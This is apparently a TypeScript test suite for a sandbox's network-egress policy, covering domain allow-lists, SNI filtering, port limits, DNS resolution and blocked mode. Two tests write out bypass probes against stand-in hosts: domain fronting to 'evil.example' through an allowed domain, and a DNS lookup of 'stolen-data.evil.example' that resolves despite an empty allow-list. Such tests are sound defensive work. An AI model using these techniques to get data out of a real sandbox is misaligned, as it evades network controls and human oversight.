import assert from "node:assert/strict";
import { test } from "node:test";
import { curl, introduces, options, runInside, startTestNetwork } from "./world.ts";

test("an open sandbox reaches every host of the world, and no name beyond it", options, async () => {
  await using world = await startTestNetwork({
    "api.example.com": introduces("api"),
    "pypi.org": introduces("pypi"),
    // nobody listens there
    "down.example.com": "http://127.0.0.1:1",
  });
  await using sandbox = await world.network.open({ kind: "open" });
  const place = { network: world.network, sandbox };
  assert.equal((await curl(place, "https://api.example.com/")).stdout, "api was asked for api.example.com");
  assert.equal((await curl(place, "https://pypi.org/")).stdout, "pypi was asked for pypi.org");
  const unknown = await curl(place, "https://nowhere.example.com/");
  assert.equal(unknown.status, 35, unknown.stderr);
  assert.match(unknown.stderr, /reset by peer/);
  assert.match(String((await curl(place, "https://down.example.com/")).status), /^(52|56)$/);
});

test("an allow-list has exact names, names below a domain with its apex, and no others", options, async () => {
  const names = ["api.example.com", "example.com", "a.b.example.com", "notexample.com", "pypi.org", "files.pypi.org"];
  await using world = await startTestNetwork(Object.fromEntries(names.map((name) => [name, introduces(name)])));
  const reached = async (domains: string[], cidrs: string[] = []) => {
    await using sandbox = await world.network.open({ kind: "allowlist", domains, cidrs });
    const place = { network: world.network, sandbox };
    const found: string[] = [];
    for (const name of names) {
      const { status, stdout, stderr } = await curl(place, `https://${name}/`);
      if (status === 0) assert.equal(stdout, `${name} was asked for ${name}`);
      else assert.match(stderr, /reset by peer/);
      if (status === 0) found.push(name);
    }
    return found;
  };
  assert.deepEqual(await reached(["*.example.com"]), ["api.example.com", "example.com", "a.b.example.com"]);
  assert.deepEqual(await reached(["example.com", "PyPI.org"]), ["example.com", "pypi.org"]);
  assert.deepEqual(await reached([]), []);
  assert.deepEqual(await reached(["*"]), names);
  assert.deepEqual(await reached(["pypi.org"], ["0.0.0.0/0"]), names);
  assert.deepEqual(await reached([], ["10.0.0.0/8", "::/0"]), []);
});

test("the server name decides and not the Host header: domain fronting works, as on Modal", options, async () => {
  await using world = await startTestNetwork({ "pypi.org": introduces("pypi"), "evil.example": introduces("evil") });
  await using sandbox = await world.network.open({ kind: "allowlist", domains: ["pypi.org"], cidrs: [] });
  const fronted = await curl({ network: world.network, sandbox }, ...["-H", "Host: evil.example", "https://pypi.org/"]);
  assert.equal(fronted.stdout, "pypi was asked for evil.example");
});

test("a connection without a server name is reset", options, async () => {
  await using world = await startTestNetwork({ "pypi.org": introduces("pypi") });
  await using sandbox = await world.network.open({ kind: "open" });
  const place = { network: world.network, sandbox };
  const anonymous = await runInside(place, ["openssl", "s_client", "-noservername", "-connect", "pypi.org:443"]);
  assert.notEqual(anonymous.status, 0);
  assert.match(anonymous.stderr, /errno=104/);
  const named = await runInside(place, [
    ...["openssl", "s_client", "-verify_return_error", "-verify_hostname", "pypi.org", "-connect", "pypi.org:443"],
    ...["-CAfile", "/etc/ssl/certs/ca-certificates.crt"],
  ]);
  assert.equal(named.status, 0, named.stderr);
  assert.match(named.stdout, /Verify return code: 0/);
});

test("only TLS on port 443 gets out; a server of the sandbox does not answer for the internet", options, async () => {
  await using world = await startTestNetwork({ "pypi.org": introduces("pypi") });
  await using sandbox = await world.network.open({ kind: "open" });
  const place = { network: world.network, sandbox };
  const program = `
    const net = require("node:net");
    const server = net.createServer((socket) => socket.end("mine"));
    server.listen(8080, "0.0.0.0", async () => {
      const results = {};
      for (const [host, port] of [["pypi.org", 80], ["pypi.org", 8080], ["pypi.org", 22], ["10.0.0.1", 443], ["8.8.8.8", 53], ["127.0.0.1", 8080]]) {
        results[host + ":" + port] = await new Promise((resolve) => {
          const socket = net.connect(port, host);
          socket.on("error", (error) => resolve(error.code)).on("data", (data) => resolve(String(data)));
        });
      }
      console.log(JSON.stringify(results));
      process.exit();
    });`;
  const { stdout, stderr } = await runInside(place, [process.execPath, "-e", program]);
  assert.equal(stderr, "");
  assert.deepEqual(JSON.parse(stdout), {
    "pypi.org:80": "EACCES",
    "pypi.org:8080": "EACCES",
    "pypi.org:22": "EACCES",
    "10.0.0.1:443": "ENETUNREACH",
    "8.8.8.8:53": "ENETUNREACH",
    "127.0.0.1:8080": "mine",
  });
  assert.notEqual((await curl(place, "http://pypi.org:443/")).status, 0);
});

test("names resolve whatever the allow-list is, over UDP and TCP, and there is no IPv6", options, async () => {
  await using world = await startTestNetwork({});
  await using sandbox = await world.network.open({ kind: "allowlist", domains: [], cidrs: [] });
  const place = { network: world.network, sandbox };
  const hosts = await runInside(place, ["getent", "ahosts", "stolen-data.evil.example"]);
  assert.match(hosts.stdout, /^203\.0\.113\.10 /);
  assert.doesNotMatch(hosts.stdout, /:/);
  const overTcp = await runInside(place, ["getent", "ahostsv4", "stolen-data.evil.example"], { RES_OPTIONS: "use-vc" });
  assert.match(overTcp.stdout, /^203\.0\.113\.10 /);
  const program = `
    const { resolve4, resolve6, resolveTxt } = require("node:dns/promises");
    Promise.all(["a.example", "b.example", "c.example"].map((name) => resolve4(name))).then(async (found) => {
      const missing = [await resolve6("a.example").catch((error) => error.code), await resolveTxt("a.example").catch((error) => error.code)];
      console.log(JSON.stringify([...found, ...missing]));
    });`;
  const { stdout, stderr } = await runInside(place, [process.execPath, "-e", program]);
  assert.equal(stderr, "");
  const address = ["203.0.113.10"];
  assert.deepEqual(JSON.parse(stdout), [address, address, address, "ENODATA", "ENODATA"]);
});

test("a blocked sandbox reaches nothing and resolves nothing, and has no tunnels", options, async () => {
  await using world = await startTestNetwork({ "pypi.org": introduces("pypi") });
  await using sandbox = await world.network.open({ kind: "blocked" });
  const place = { network: world.network, sandbox };
  assert.equal((await curl(place, "https://pypi.org/")).status, 6);
  const byAddress = await curl(place, "--connect-to", "::203.0.113.10:443", "https://pypi.org/");
  assert.equal(byAddress.status, 7, byAddress.stderr);
  await assert.rejects(sandbox.tunnel(8080), /blocked/);
});
